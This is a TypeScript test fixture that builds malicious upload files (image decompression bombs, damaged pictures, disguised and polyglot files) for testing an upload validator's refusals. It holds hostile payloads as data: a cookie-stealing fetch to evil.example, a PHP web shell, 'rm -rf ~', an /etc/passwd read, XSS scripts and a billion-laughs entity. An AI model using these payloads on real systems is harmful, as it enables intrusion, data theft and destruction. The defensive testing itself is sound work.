import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { plainPdf } from '../scenes/documents.ts'
import { hostilePdfs, part } from './hostile-pdfs.ts'

// Files as attackers send them, made from nothing: no virus and no broken device is kept in the project.

/** A file, the name it is sent under, and the fault (file-texts.ts) that it must be refused with. */
export interface HostileFile {
  what: string
  bytes: Buffer
  name: string
  fault: string
}

export async function hostileFiles(): Promise<HostileFile[]> {
  return [...(await bombs()), ...(await brokenPictures()), ...(await disguises()), ...hostilePdfs()].map(
    ([what, name, fault, bytes]) => ({ what, name, fault, bytes: Buffer.from(bytes) }),
  )
}

/** The fields of HostileFile in a line. */
export type Row = [what: string, name: string, fault: string, bytes: Buffer | string]

const plain = (width = 40, height = 30) =>
  sharp({ create: { width, height, channels: 3, background: '#b31' } })
const jpeg = () => plain().jpeg().toBuffer()
const png = () => plain().png().toBuffer()
const webp = () => plain().webp().toBuffer()

// ── Pictures that are small to send and huge to unpack.

async function bombs(): Promise<Row[]> {
  const progressive = await plain(1500, 1500).jpeg({ progressive: true }).toBuffer()
  const lastScan = progressive.subarray(progressive.lastIndexOf(Buffer.from('ffda', 'hex')), -2)
  return [
    ['PNG of 30,000 × 30,000', 'pan.png', 'tooManyPixels', hugePng(30_000, 30_000)],
    ['PNG one row over the limit', 'pan.png', 'tooManyPixels', hugePng(10_000, 6501)],
    [
      'PNG that claims 2 billion × 2 billion',
      'pan.png',
      'damagedPicture',
      hugePng(2 ** 31 - 1, 2 ** 31 - 1, 1),
    ],
    ['JPEG that claims 30,000 × 30,000', 'pan.jpg', 'tooManyPixels', resizedJpeg(await jpeg(), 30_000)],
    ['JPEG that claims 65,500 × 65,500', 'pan.jpg', 'tooManyPixels', resizedJpeg(await jpeg(), 65_500)],
    ['WebP that claims 8,100 × 8,100', 'pan.webp', 'tooManyPixels', await largeWebp(8100)],
    ['WebP that claims 16,384 × 16,384', 'pan.webp', 'damagedPicture', await largeWebp(16_384)],
    [
      'progressive JPEG with 5,000 scans',
      'pan.jpg',
      'tooManyPixels',
      Buffer.concat([
        progressive.subarray(0, -2),
        ...Array<Buffer>(5000).fill(lastScan),
        Buffer.from('ffd9', 'hex'),
      ]),
    ],
    [
      'progressive JPEG of 7,000 × 7,000 with 450 scans',
      'pan.jpg',
      'tooManyPixels',
      resizedJpeg(
        Buffer.concat([
          progressive.subarray(0, -2),
          ...Array<Buffer>(440).fill(lastScan),
          Buffer.from('ffd9', 'hex'),
        ]),
        7000,
        'ffc2',
      ),
    ],
    ['APNG', 'pan.png', 'animated', await apng()],
    ['animated WebP', 'pan.webp', 'animated', await animatedWebp()],
  ]
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data])
  const [length, crc] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  crc.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, crc])
}

/** A whole PNG in black and white, one bit a pixel; `rows` of it are there. */
function hugePng(width: number, height: number, rows = height): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width)
  head.writeUInt32BE(height, 4)
  head[8] = 1
  const row = rows === 1 ? 100 : Math.ceil(width / 8) + 1
  const pixels = deflateSync(Buffer.alloc(row * rows))
  return pngOf(chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0)))
}

const pngOf = (...chunks: Buffer[]) => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), ...chunks])

/** Sets both sides in the marker SOF0, of a progressive picture SOF2. */
function resizedJpeg(small: Buffer, side: number, marker = 'ffc0'): Buffer {
  const changed = Buffer.from(small)
  const frame = changed.indexOf(Buffer.from(marker, 'hex'))
  changed.writeUInt16BE(side, frame + 5)
  changed.writeUInt16BE(side, frame + 7)
  return changed
}

/** Sets both sides, 14 bits each, in the head of a lossless WebP. */
async function largeWebp(side: number): Promise<Buffer> {
  const changed = await plain().webp({ lossless: true }).toBuffer()
  const head = changed.indexOf('VP8L') + 9
  const sides = (side - 1) | ((side - 1) << 14)
  changed.writeUInt32LE(((changed.readUInt32LE(head) & 0xf0000000) | sides) >>> 0, head)
  return changed
}

async function apng(): Promise<Buffer> {
  const whole = await png()
  const control = Buffer.alloc(8)
  control.writeUInt32BE(100_000)
  return Buffer.concat([whole.subarray(0, 33), chunk('acTL', control), whole.subarray(33)])
}

function animatedWebp(): Promise<Buffer> {
  const frames = Array.from({ length: 5 }, (_, n) => Buffer.alloc(20 * 20 * 3, n * 50))
  return sharp(Buffer.concat(frames), { raw: { width: 20, height: 100, channels: 3, pageHeight: 20 } })
    .webp({ loop: 0, delay: [40, 40, 40, 40, 40] })
    .toBuffer()
}

// ── Pictures that are not whole.

async function brokenPictures(): Promise<Row[]> {
  const [aJpeg, aPng, aWebp] = [await noise().jpeg().toBuffer(), await noise().png().toBuffer(), await webp()]
  const wrongPixels = Buffer.from(aPng)
  wrongPixels.fill(0x55, aPng.length >> 1, (aPng.length >> 1) + 200)
  return [
    ['JPEG cut off', 'pan.jpg', 'damagedPicture', aJpeg.subarray(0, aJpeg.length >> 1)],
    ['PNG cut off', 'pan.png', 'damagedPicture', aPng.subarray(0, aPng.length >> 1)],
    ['WebP cut off', 'pan.webp', 'damagedPicture', aWebp.subarray(0, aWebp.length >> 1)],
    ['three bytes of a JPEG', 'pan.jpg', 'damagedPicture', Buffer.from('ffd8ff', 'hex')],
    ['the head of a PNG alone', 'pan.png', 'damagedPicture', pngOf()],
    ['the head of a WebP alone', 'pan.webp', 'damagedPicture', 'RIFF\x10\0\0\0WEBPVP8 '],
    ['PNG with wrong pixels', 'pan.png', 'damagedPicture', wrongPixels],
    ['noise that begins as a JPEG', 'pan.jpg', 'damagedPicture', startsAs('ffd8ffe0')],
    ['noise that begins as a PNG', 'pan.png', 'damagedPicture', startsAs('89504e470d0a1a0a')],
  ]
}

const noise = () =>
  sharp({
    create: {
      width: 120,
      height: 90,
      channels: 3,
      background: '#888',
      noise: { type: 'gaussian', mean: 128, sigma: 50 },
    },
  })

/** The same noise each time. */
function startsAs(hex: string): Buffer {
  const bytes = Buffer.alloc(4000)
  for (let at = 0, seed = 2083; at < bytes.length; at++) {
    seed = (seed * 1103515245 + 12345) % 2 ** 31
    bytes[at] = seed >> 16
  }
  Buffer.from(hex, 'hex').copy(bytes)
  return bytes
}

// ── What is something else, or something else besides.

async function disguises(): Promise<Row[]> {
  const html = '<!doctype html><html><script>alert(document.cookie)</script></html>'
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
  const laughs = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
  const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
  const others: [string, string, Buffer | string][] = [
    ['HTML as a picture', 'pan.jpg', html],
    ['HTML as a PDF', 'pan.pdf', html],
    ['SVG as a picture', 'pan.png', svg],
    ['SVG as a PDF', 'pan.pdf', svg],
    ['XML with entities in entities', 'pan.pdf', laughs],
    ['JavaScript as a PDF', 'pan.pdf', 'fetch("https://evil.example/"+document.cookie)'],
    ['a zip archive as a picture', 'pan.jpg', zip('pan.jpg')],
    ['a Word document as a PDF', 'pan.pdf', zip('[Content_Types].xml', 'word/document.xml')],
    ['a Java archive as a PDF', 'pan.pdf', zip('META-INF/MANIFEST.MF', 'Evil.class')],
    ['GIF', 'pan.gif', 'GIF89a\x01\0\x01\0\0\0\0;'],
    ['GIF that is a script', 'pan.jpg', 'GIF89a/*\x01\0*/=1;alert(1)//'],
    ['BMP', 'pan.jpg', `BM${'\0'.repeat(60)}`],
    ['TIFF', 'pan.jpg', 'II*\0\x08\0\0\0\0\0'],
    ['HEIC', 'pan.jpg', '\0\0\0\x18ftypheic\0\0\0\0mif1heic'],
    ['a program of Linux', 'pan.pdf', '\x7fELF\x02\x01\x01'],
    ['a program of Windows', 'pan.pdf', 'MZ\x90\0\x03'],
    ['a shell script', 'pan.pdf', '#!/bin/sh\nrm -rf ~\n'],
    ['PHP', 'pan.jpg', '<?php system($_GET["c"]);'],
    ['the test virus EICAR', 'pan.pdf', eicar],
    ['PostScript', 'pan.pdf', '%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n'],
    ['gzip', 'pan.pdf', Buffer.from('1f8b0800', 'hex')],
    ['RTF', 'pan.pdf', '{\\rtf1\\object}'],
    ['plain text', 'pan.pdf', 'PAN 601234567'],
    ['text in UTF-16', 'pan.pdf', Buffer.from('\ufeff<html>', 'utf16le')],
    ['PDF behind HTML', 'pan.pdf', Buffer.concat([Buffer.from(html), plainPdf()])],
    ['PDF behind one character', 'pan.pdf', Buffer.concat([Buffer.from('x'), plainPdf()])],
    ['PDF behind much white space', 'pan.pdf', Buffer.concat([Buffer.alloc(2000, ' '), plainPdf()])],
  ]
  return [
    ...others.map(([what, name, bytes]): Row => [what, name, 'noDocument', bytes]),
    ['JPEG with HTML in its comment', 'pan.jpg', 'disguised', withComment(await jpeg(), html)],
    [
      'JPEG with a zip archive behind it',
      'pan.jpg',
      'disguised',
      Buffer.concat([await jpeg(), zip('evil.js')]),
    ],
    ['JPEG with a PDF behind it', 'pan.jpg', 'disguised', Buffer.concat([await jpeg(), plainPdf()])],
    ['PNG with PHP in a text', 'pan.png', 'disguised', await pngWithText('<?php system($_GET["c"]);')],
    [
      'WebP with a script behind it',
      'pan.webp',
      'disguised',
      Buffer.concat([await webp(), Buffer.from(html)]),
    ],
    ['PDF with a zip archive behind it', 'pan.pdf', 'disguised', Buffer.concat([plainPdf(), zip('evil.js')])],
    ['PDF with HTML behind it', 'pan.pdf', 'disguised', Buffer.concat([plainPdf(), Buffer.from(html)])],
    ['PDF with HTML in a comment', 'pan.pdf', 'disguised', plainPdf(`%${html}\n`)],
    [
      'PDF with the test virus behind it',
      'pan.pdf',
      'disguised',
      Buffer.concat([plainPdf(), Buffer.from(eicar)]),
    ],
    ['PDF with a zip archive in it', 'pan.pdf', 'disguised', plainPdf(part('/Length 100', zip('evil.js')))],
  ]
}

/** An archive of empty files. Source: APPNOTE 4.3. */
function zip(...names: string[]): Buffer {
  const local = names.map((name) => {
    const head = Buffer.alloc(30)
    head.write('PK\x03\x04', 'latin1')
    head.writeUInt16LE(name.length, 26)
    return Buffer.concat([head, Buffer.from(name)])
  })
  const central = names.map((name) => {
    const head = Buffer.alloc(46)
    head.write('PK\x01\x02', 'latin1')
    head.writeUInt16LE(name.length, 28)
    return Buffer.concat([head, Buffer.from(name)])
  })
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(names.length, 8)
  end.writeUInt16LE(names.length, 10)
  return Buffer.concat([...local, ...central, end])
}

function withComment(picture: Buffer, text: string): Buffer {
  const head = Buffer.from('fffe0000', 'hex')
  head.writeUInt16BE(text.length + 2, 2)
  return Buffer.concat([picture.subarray(0, 2), head, Buffer.from(text), picture.subarray(2)])
}

async function pngWithText(text: string): Promise<Buffer> {
  const whole = await png()
  return Buffer.concat([
    whole.subarray(0, 33),
    chunk('tEXt', Buffer.from(`Comment\0${text}`)),
    whole.subarray(33),
  ])
}
